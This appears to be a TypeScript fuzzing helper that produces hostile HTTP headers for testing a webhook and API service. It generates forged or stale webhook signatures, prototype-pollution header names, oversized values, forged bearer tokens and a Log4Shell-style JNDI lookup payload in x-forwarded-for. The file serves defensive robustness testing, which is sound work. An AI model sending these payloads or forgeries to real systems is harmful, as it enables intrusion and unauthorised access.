import { Webhook } from "standardwebhooks";
import { developmentSecret } from "../../local/directory/development-secrets.ts";
import type { Draws } from "./hostile-draws.ts";
import type { HostileWorld } from "./hostile-world.ts";

/** A header as it is written on the wire; names may repeat. */
export type Header = [name: string, value: string];

/** Standard Webhooks headers over a body: right most of the time, so that what is behind the signature is reached. */
export function webhookHeaders(draws: Draws, platform: string, body: Buffer, index: number): Header[] {
  const id = `hostile-${index}-${draws.int(1_000_000)}`;
  const now = Math.floor(Date.now() / 1_000);
  const right = signed(developmentSecret("from", platform), id, now, body);
  if (draws.chance(0.7)) return headersOf(id, `${now}`, right);
  const secret = developmentSecret("from", platform);
  switch (draws.int(10)) {
    case 0:
      return headersOf(id, `${now - 301}`, signed(secret, id, now - 301, body));
    case 1:
      return headersOf(id, `${now + 400}`, signed(secret, id, now + 400, body));
    case 2: {
      const timestamp = draws.pick([
        "NaN",
        "",
        "-1",
        "1e9",
        "0x5f",
        "99999999999999999999",
        "Infinity",
        `0${now}`,
        "0",
      ]);
      return headersOf(id, timestamp, right);
    }
    case 3: {
      const other = draws.pick(["i".repeat(9_000), "a.b", "", " ", "é", "__proto__", "msg_%00", "i".repeat(129)]);
      return headersOf(other, `${now}`, signed(secret, other, now, body));
    }
    case 4:
      return [...headersOf(id, `${now}`, right), ...headersOf(`${id}-2`, `${now}`, right)];
    case 5:
      return headersOf(id, `${now}`, signed(developmentSecret("from", "temu"), id, now, body));
    case 6:
      return headersOf(id, `${now}`, Array.from({ length: 150 }, () => right).join(" "));
    case 7:
      return headersOf(
        id,
        `${now}`,
        draws.pick(["", "v1", "v1,", "v1,!!!", "v1a,AAAA", "v2,AAAA", ",".repeat(5_000), " "]),
      );
    case 8:
      return headersOf(id, `${now}`, `v1a,${Buffer.alloc(64, draws.int(256)).toString("base64")}`);
    default:
      return headersOf(id, `${now}`, right).filter(() => draws.chance(0.5));
  }
}

/** Headers that a request does not need. */
export function surplusHeaders(draws: Draws): Header[] {
  switch (draws.int(9)) {
    case 0:
      return draws
        .pick([["__proto__"], ["constructor"], ["toString", "hasOwnProperty"], ["valueOf"], ["__defineGetter__"]])
        .map((name): Header => [name, "1"]);
    case 1:
      return Array.from({ length: draws.pick([100, 1_000, 1_990, 2_500]) }, (_, number): Header => [
        `h${number % 10}`,
        "",
      ]);
    case 2:
      return [["x-long", "x".repeat(draws.pick([9_000, 10_240, 20_000, 100_000]))]];
    case 3:
      return [["accept-language", draws.pick([",".repeat(9_500), "x,".repeat(4_700), "en;q=2;q=;q", "*;q=0", "fr-é"])]];
    case 4:
      return [
        ["x-forwarded-for", "127.0.0.1, ${jndi:ldap://x.example}"],
        ["x-http-method-override", "DELETE"],
        ["x-amzn-requestid", "spoofed"],
        ["x-request-id", "spoofed"],
      ];
    case 5:
      return [["expect", draws.pick(["100-continue", "200-ok", ""])]];
    case 6:
      return [
        ["upgrade", draws.pick(["websocket", "h2c", "TLS/1.0"])],
        ["connection", "upgrade"],
        ["sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA=="],
      ];
    case 7:
      return [["cookie", "a=b; ".repeat(1_000)]];
    default:
      return [
        ["content-encoding", draws.pick(["gzip", "br", "deflate, gzip"])],
        ["if-none-match", "*"],
        ["range", "bytes=0-0,1-1,2-2"],
        ["te", "trailers"],
      ];
  }
}

/** `Authorization` headers of somebody who has no right to what is asked. */
export function hostileAuthorization(draws: Draws, { tokens, forgeries }: HostileWorld): Header[] {
  const genuine = draws.pick(Object.values(tokens));
  const forged = draws.pick(forgeries);
  return draws.pick<Header[]>([
    [],
    [["authorization", `Bearer ${forged}`]],
    [["authorization", `Bearer ${forged}`]],
    [
      ["authorization", `Bearer ${forged}`],
      ["Authorization", `Bearer ${genuine}`],
    ],
    [["authorization", `Basic ${Buffer.from("dgccrf:development").toString("base64")}`]],
    [["authorization", draws.pick(["Bearer", "Bearer ", "bearer a b", "Digest x", "\u00ff", "Bearer \t"])]],
    [["x-authorization", `Bearer ${genuine}`]],
    [["authorization", `Bearer ${genuine}, Bearer ${forged}`]],
  ]);
}

/** Values of `If-Match` and `Idempotency-Key`, most of them odd. */
export function conditionHeaders(draws: Draws, index: number): Header[] {
  const version = draws.pick([
    '"1"',
    "3",
    "*",
    '"0"',
    '"-1"',
    'W/"3"',
    '"99999999999"',
    "1e9",
    "",
    '"1", "2"',
    "\u00e9",
  ]);
  const key = draws.weighted({ own: 10, odd: 2, none: 1, twice: 1 });
  return [
    ...(draws.chance(0.7) ? [["if-match", version] satisfies Header] : []),
    ...(key === "own" ? [["idempotency-key", `hostile-${index}`] satisfies Header] : []),
    ...(key === "odd"
      ? [
          [
            "idempotency-key",
            draws.pick(["", " ", "k".repeat(129), "k".repeat(9_000), "é", "__proto__"]),
          ] satisfies Header,
        ]
      : []),
    ...(key === "twice" ? ([1, 2] as const).map((number): Header => ["idempotency-key", `hostile-${number}`]) : []),
  ];
}

/** The content type of a body, mostly the right one. */
export function contentType(draws: Draws): Header[] {
  if (draws.chance(0.9)) return [["content-type", "application/json"]];
  return draws.pick<Header[]>([
    [],
    [["content-type", "application/json; charset=utf-16"]],
    [["content-type", "text/plain"]],
    [["content-type", "multipart/form-data; boundary=----x"]],
    [["content-type", "application/json, text/html"]],
    [["content-type", `application/json;${"x=y;".repeat(1_000)}`]],
    [["content-type", ""]],
    [
      ["content-type", "application/json"],
      ["Content-Type", "application/xml"],
    ],
  ]);
}

function headersOf(id: string, timestamp: string, signature: string): Header[] {
  return [
    ["webhook-id", id],
    ["webhook-timestamp", timestamp],
    ["webhook-signature", signature],
  ];
}

/** Signed over the bytes as they are: the published library takes a text only, and these may be none. */
function signed(secret: string, id: string, seconds: number, body: Buffer): string {
  const at = new Date(seconds * 1_000);
  return body.equals(Buffer.from(body.toString()))
    ? new Webhook(secret).sign(id, at, body.toString())
    : new Webhook(secret).sign(id, at, body.toString("latin1"));
}
